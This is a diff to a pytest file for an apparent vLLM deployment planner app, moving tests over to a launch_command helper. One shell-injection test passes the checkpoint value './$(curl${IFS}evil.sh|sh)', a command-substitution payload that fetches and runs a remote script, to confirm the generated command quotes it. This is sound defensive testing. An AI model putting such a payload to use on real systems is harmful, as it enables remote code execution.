@@ -14,6 +14,7 @@ import pytest
 from planner.text import md_escape
 from tests.app.conftest import (
     ROOT,
+    launch_command,
     metric,
     open_link,
     open_page,
@@ -40,7 +41,7 @@ def test_seed_scenario_is_the_first_screen() -> None:
     # ~108,000 by hand (tests/planner/serving/test_seed_scenario.py), not the 2K-4K once guessed
     assert 100_000 <= kv_room(at) < 120_000
     assert any(s.value.startswith("Fits:") for s in at.success)
-    command = at.code[0].value
+    command = launch_command(at)
     assert command.startswith("vllm serve Qwen/Qwen3-235B-A22B-GPTQ-Int4")
     # the seed follows the Marlin advice: EP keeps each expert whole (1536 % 128 = 0)
     assert "--tensor-parallel-size 8 --enable-expert-parallel" in command
@@ -71,7 +72,7 @@ def test_seed_without_ep_warns_of_the_marlin_fallback_with_the_same_figures() ->
     warning = next(w.value for w in at.warning if "Marlin MoE kernel" in w.value)
     assert "each expert is 192 wide per GPU at TP=8" in warning
     assert "--enable-expert-parallel keeps experts whole (1536 % 128 = 0)" in warning
-    assert "--enable-expert-parallel" not in at.code[0].value
+    assert "--enable-expert-parallel" not in launch_command(at)
     for label in ("Weights per GPU", "KV bytes/token per GPU", "KV room", "Context ceiling"):
         assert metric(at, label) == metric(with_ep, label), label
     assert metric(at, "KV bytes/token per GPU") == "48,128 B"
@@ -181,7 +182,7 @@ def test_apply_sets_the_nearest_weight_format_and_layout() -> None:
     assert at.checkbox(key="plan.ep").value
     assert any(s.value.startswith("Fits:") for s in at.success) and not at.error
     assert (at.query_params["quant"], at.query_params["tp"]) == ("w4a16-gptq-g128", "8")
-    assert "ckpt" not in at.query_params and "org/other-format" not in at.code[0].value
+    assert "ckpt" not in at.query_params and "org/other-format" not in launch_command(at)
 
 
 def test_apply_puts_back_vllms_batched_token_default() -> None:
@@ -225,7 +226,7 @@ def test_ep_choice_is_ignored_for_a_dense_model() -> None:
     at = open_page(None, model="Qwen/Qwen3-32B", tp="4", ep="1")
     assert not at.exception
     assert not any("ep=" in e.value for e in at.error)  # no "ep=True is not possible here"
-    assert "--enable-expert-parallel" not in at.code[0].value
+    assert "--enable-expert-parallel" not in launch_command(at)
     assert at.checkbox(key="plan.ep_none").disabled
 
 
@@ -236,7 +237,7 @@ def test_fp8_kv_halves_kv_per_token_and_raises_the_ceiling() -> None:
     assert not at.exception
     assert metric(at, "KV bytes/token per GPU") == "24,064 B"
     assert kv_room(at) > before
-    assert "--kv-cache-dtype fp8" in at.code[0].value
+    assert "--kv-cache-dtype fp8" in launch_command(at)
     assert at.query_params["kv"] == "fp8"
 
 
@@ -245,7 +246,7 @@ def test_more_memory_utilization_raises_the_ceiling() -> None:
     before = kv_room(at)
     at.slider(key="plan.gpu_memory_utilization").set_value(0.95).run()
     assert kv_room(at) > before
-    assert "--gpu-memory-utilization 0.95" in at.code[0].value
+    assert "--gpu-memory-utilization 0.95" in launch_command(at)
 
 
 def test_tp2_splits_kv_heads_and_does_not_fit() -> None:
@@ -337,7 +338,7 @@ def test_what_if_fp8_of_a_bf16_checkpoint_passes_quantization_to_vllm() -> None:
     bf16_weights = metric(at, "Weights per GPU")
     at.selectbox(key="plan.quant").set_value("fp8-tensor").run()
     assert not at.exception
-    assert "--quantization fp8" in at.code[0].value
+    assert "--quantization fp8" in launch_command(at)
     assert float(metric(at, "Weights per GPU").split()[0]) < 0.6 * float(bf16_weights.split()[0])
     assert at.query_params["quant"] == "fp8-tensor"
 
@@ -361,7 +362,7 @@ def test_what_if_without_a_checkpoint_shows_a_note_not_a_16_bit_command() -> Non
     assert any(i.value.startswith("No GPTQ int4, group 128 (W4A16) checkpoint of Qwen/Qwen3-8B")
                for i in at.info)
     at = open_page(None, **query, ckpt="someone/Qwen3-8B-GPTQ-Int4")
-    command = next(c.value for c in at.code if c.language == "bash")
+    command = launch_command(at)
     assert command.startswith("vllm serve someone/Qwen3-8B-GPTQ-Int4 ")
 
 
@@ -371,7 +372,7 @@ def test_a_linked_checkpoint_cannot_inject_shell_or_flags_into_the_command() -> 
     query = {"model": "Qwen/Qwen3-8B", "gpu": "l4", "gpn": "1", "tp": "1", "quant": "gptq"}
     at = open_page(None, **query, ckpt="./$(curl${IFS}evil.sh|sh)")  # a path: kept, quoted
     assert not at.exception
-    command = next(c.value for c in at.code if c.language == "bash")
+    command = launch_command(at)
     assert command.startswith("vllm serve './$(curl${IFS}evil.sh|sh)' --max-model-len")
     at = open_page(None, **query, ckpt="--trust-remote-code")
     assert not at.exception
@@ -400,7 +401,7 @@ def test_a_checkpoint_that_is_no_repo_id_nor_path_is_refused_in_words() -> None:
     assert "the checkpoint 'me/ckpts/qwen3-gptq' is not a Hugging Face repo id" in shown
     assert "Kept empty (the default)." in shown
     at.text_input(key="plan.target_checkpoint").input("/models/qwen3-gptq").run()
-    command = next(c.value for c in at.code if c.language == "bash")
+    command = launch_command(at)
     assert command.startswith("vllm serve /models/qwen3-gptq ")
 
 
@@ -489,7 +490,7 @@ def test_two_nodes_get_a_command_each() -> None:
     # a node; one `vllm serve` per node, node 1 headless (vLLM 0.12+ --nnodes)
     at = open_page(None, model="deepseek-ai/DeepSeek-V3", gpu="h100-sxm", gpn="8", nodes="2")
     assert not at.exception
-    block = next(c.value for c in at.code if c.value.startswith("# node 0"))
+    block = launch_command(at)
     lines = block.splitlines()
     assert lines[0::2] == ["# node 0", "# node 1"]
     assert lines[1].endswith("--nnodes 2 --master-addr $HEAD_NODE_IP --node-rank 0")
@@ -558,11 +559,11 @@ def test_applying_a_row_without_ep_keeps_the_ep_choice_where_ep_cannot_apply() -
     apply("TP=1 x PP=8")
     assert at.query_params["ep"] == "1" and at.query_params["pp"] == "8"
     at.button(key="plan.auto_layout").click().run()
-    assert "--tensor-parallel-size 8 --enable-expert-parallel" in at.code[0].value
+    assert "--tensor-parallel-size 8 --enable-expert-parallel" in launch_command(at)
     assert not any("Marlin MoE kernel" in w.value for w in at.warning)
     apply("TP=8")
     assert at.query_params["ep"] == "0"
-    assert "--enable-expert-parallel" not in at.code[0].value
+    assert "--enable-expert-parallel" not in launch_command(at)
 
 
 def test_a_checkpoint_typed_for_a_runtime_what_if_is_the_one_served() -> None:
@@ -574,10 +575,10 @@ def test_a_checkpoint_typed_for_a_runtime_what_if_is_the_one_served() -> None:
     query = {"model": "Qwen/Qwen3-32B", "gpu": "l40s", "gpn": "2", "quant": "fp8"}
     runtime = open_page(None, **query)
     assert "vllm serve Qwen/Qwen3-32B --tensor-parallel-size 2 --quantization fp8 " in \
-        runtime.code[0].value
+        launch_command(runtime)
     at = open_page(None, **query, ckpt="me/Qwen3-32B-FP8-mine")
     assert not at.exception
-    command = next(c.value for c in at.code if c.language == "bash")
+    command = launch_command(at)
     assert command.startswith("vllm serve me/Qwen3-32B-FP8-mine --tensor-parallel-size 2 ")
     assert "--quantization" not in command
     assert metric(at, "Weights per GPU") == metric(runtime, "Weights per GPU") == "15.99 GiB"
